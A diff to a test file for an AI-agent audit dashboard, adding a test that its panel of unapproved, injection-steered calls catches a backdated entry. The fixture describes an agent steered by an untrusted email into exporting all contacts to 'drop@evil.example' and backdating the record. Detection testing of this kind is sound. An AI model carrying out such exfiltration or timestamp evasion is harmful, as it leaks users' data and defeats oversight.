@@ -19,7 +19,8 @@ import pytest
 from agentaudit.collector.writer.writer import Writer
 from agentaudit.config import Config
 from agentaudit.dashboards import queries, register_store
-from agentaudit.dashboards.filters import FilterError, Filters
+from agentaudit.dashboards.filters import FilterError, Filters, TimeRange
+from agentaudit.schema import attributes as A
 from agentaudit.store import Store
 from tests.dashboards.seed_store import DEMO_AGENT, SECOND, seed, tool_span
 from tests.dashboards.test_pages import open_page, users_config
@@ -46,14 +47,14 @@ def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
         tool="export_contacts",
         arguments={"to": "drop@evil.example"},
         prompt_hash="sha256:" + "0" * 64,
-        sources=[],
+        sources=[("email:msg-evil", "email", A.TRUST_UNTRUSTED)],  # steered, unapproved
         resources=["contacts:all"],
         credential="cred-crm",
         scopes=["contacts.read"],
         expires_at=now + DAY,
     )
     writer = Writer(store)
-    writer.enqueue([backdated], received_ns=now)  # arrived now
+    writer.enqueue([backdated], received_ns=time.time_ns())  # arrived now, after the demo
     writer.flush()
     register_store(store)
     yield store
@@ -95,6 +96,23 @@ def test_every_call_of_the_demo_is_counted_once_over_either_time(store: Store) -
     received = queries.investigate(store, Filters(window="all", time="received"))
     assert len(received) == len(claimed)
     assert len(set(zip(received["trace_id"], received["ts"], strict=True))) == len(received)
+
+
+def test_no_human_asked_for_this_shows_a_steered_call_whatever_time_it_claims(
+    store: Store,
+) -> None:
+    """The Overview's panel of unapproved calls prompted by untrusted content: the
+    backdated one is listed first (received last), with the demo's own, in a 24 h window;
+    nothing claimed or received 10 days ago is in a window then, except that call."""
+    frame = queries.unasked_calls(store, TimeRange.parse("24h"))
+    assert frame["agent_id"].tolist()[0] == BACKDATER
+    assert DEMO_AGENT in set(frame["agent_id"])
+    ten_days_ago = dt.datetime.now(dt.timezone.utc) - dt.timedelta(days=10)
+    then = TimeRange.parse(
+        since=(ten_days_ago - dt.timedelta(hours=1)).isoformat(),
+        until=(ten_days_ago + dt.timedelta(hours=1)).isoformat(),
+    )
+    assert queries.unasked_calls(store, then)["agent_id"].tolist() == [BACKDATER]
 
 
 def test_the_time_filter_is_parsed_strictly() -> None:
